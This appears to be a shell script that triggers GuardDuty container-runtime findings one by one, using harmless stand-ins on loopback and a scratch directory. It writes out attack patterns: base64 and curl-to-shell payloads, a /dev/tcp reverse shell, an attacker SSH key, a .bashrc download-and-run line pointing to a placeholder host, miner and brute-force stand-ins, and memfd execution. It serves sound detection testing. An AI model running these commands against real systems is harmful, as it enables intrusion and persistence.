#!/bin/sh
# One step per GuardDuty runtime finding that a container's syscalls can show; each
# step prints its finding on stderr. Safe on a dev box: files live in $WORK, sockets
# are loopback or our own unix sockets, module loads and the release_agent open are
# attempts that change nothing.
# usage: attack.sh WORK ACTOR HOOK_SO
set -u
WORK=$1
ACTOR=$2
HOOK=$3
HERE=$(dirname "$0")
step() { echo "step: $*" >&2; }
mkdir -p "$WORK/bin" "$WORK/lib" "$WORK/home/.ssh" "$WORK/run" "$WORK/mnt"

step "Impact:Runtime/CryptoMinerExecuted (by name, then by arguments)"
ln -sf /bin/true "$WORK/bin/xmrig" && "$WORK/bin/xmrig" -o pool.example.invalid:443
/bin/true -o stratum+tcp://pool.example.invalid:3333 -u wallet --donate-level 1

step "CryptoCurrency:Runtime/BitcoinTool: connect to a mining pool port"
"$ACTOR" udp 3333

step "UnauthorizedAccess:Runtime/TorClient: connect to Tor's SOCKS port"
"$ACTOR" udp 9050

step "Execution:Runtime/NewLibraryLoaded: LD_PRELOAD and dlopen of dropped libraries"
cp "$HOOK" "$WORK/lib/libhook.so" && LD_PRELOAD="$WORK/lib/libhook.so" /bin/true
cp "$HOOK" "$WORK/lib/libplug.so.1" && "$ACTOR" dlopen "$WORK/lib/libplug.so.1"

step "Execution:Runtime/NewBinaryExecuted: a binary written then run"
cp /bin/true "$WORK/bin/dropped" && chmod +x "$WORK/bin/dropped" && "$WORK/bin/dropped"

step "Execution:Runtime/SuspiciousTool: scanners"
if command -v nmap > /dev/null; then
    nmap -sT -n -Pn -p 9 127.0.0.1 > /dev/null 2>&1
else  # stand-in named like the tool
    ln -sf /bin/true "$WORK/bin/nmap" && "$WORK/bin/nmap" -sT 127.0.0.1
fi
if command -v masscan > /dev/null; then
    masscan --version > /dev/null 2>&1
else
    ln -sf /bin/true "$WORK/bin/masscan" && "$WORK/bin/masscan" 127.0.0.1 -p80
fi
ln -sf /bin/true "$WORK/bin/hydra" && "$WORK/bin/hydra" -l root -P words ssh://127.0.0.1

step "Execution:Runtime/SuspiciousCommand: decoded and downloaded payloads into a shell"
# As a web shell or an injected command runs them: one command string for sh -c.
sh -c "echo ZWNobyBkZWNvZGVkID4gL2Rldi9udWxsCg== | base64 -d | sh"
printf 'echo downloaded > /dev/null\n' > "$WORK/payload.sh"
sh -c "curl -s file://$WORK/payload.sh | bash"
python3 -c "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RydWUnKQ=='))"

step "PrivilegeEscalation:Runtime/DockerSocketAccessed"
python3 -c "
import socket, subprocess, sys
srv = socket.socket(socket.AF_UNIX)
srv.bind(sys.argv[1])
srv.listen(1)
subprocess.run(sys.argv[2:])" "$WORK/run/docker.sock" "$ACTOR" unix "$WORK/run/docker.sock"

step "PrivilegeEscalation:Runtime/RuncContainerEscape: own executable opened for writing"
"$ACTOR" selfexe

step "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified"
"$ACTOR" release_agent

step "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory: a mount"
"$ACTOR" mount "$WORK/mnt"

step "PrivilegeEscalation:Runtime/UserfaultfdUsage"
"$ACTOR" uffd

step "DefenseEvasion:Runtime/ProcessInjection.Proc: /proc/PID/mem for writing"
"$ACTOR" procmem

step "DefenseEvasion:Runtime/ProcessInjection.Ptrace and .VirtualMemoryWrite"
"$ACTOR" inject

step "DefenseEvasion:Runtime/PtraceAntiDebugging: PTRACE_TRACEME"
"$ACTOR" traceme

step "DefenseEvasion:Runtime/KernelModuleLoaded: finit_module and init_module"
"$ACTOR" module

step "DefenseEvasion:Runtime/FilelessExecution: exec from a memfd"
python3 -c "
import os
fd = os.memfd_create('payload')
os.write(fd, open('/bin/true', 'rb').read())
os.execve(fd, ['payload'], {})"

step "Persistence:Runtime/SuspiciousCommand: authorized_keys, .bashrc, crontab"
echo "ssh-ed25519 AAAAC3Nza attacker" >> "$WORK/home/.ssh/authorized_keys"
echo "curl -s http://example.invalid/x | sh" >> "$WORK/home/.bashrc"
ln -sf /bin/true "$WORK/bin/crontab" && "$WORK/bin/crontab" -l

step "Execution:Runtime/ReverseShell: bash with its stdio on a TCP connection"
python3 "$HERE/listener.py" "$WORK/port" &
while [ ! -s "$WORK/port" ]; do sleep 0.05; done
bash -c "bash -i >& /dev/tcp/127.0.0.1/$(cat "$WORK/port") 0>&1" 2>/dev/null
wait

step "Execution:Runtime/SuspiciousShellCreated and Discovery:Runtime/SuspiciousCommand"
ln -sf "$ACTOR" "$WORK/bin/nginx" && "$WORK/bin/nginx" server "id > /dev/null; uname -a > /dev/null"

step "PrivilegeEscalation:Runtime/ElevationToRoot: setuid(0) from nobody"
"$ACTOR" elevate

echo "attack done" >&2
exit 0
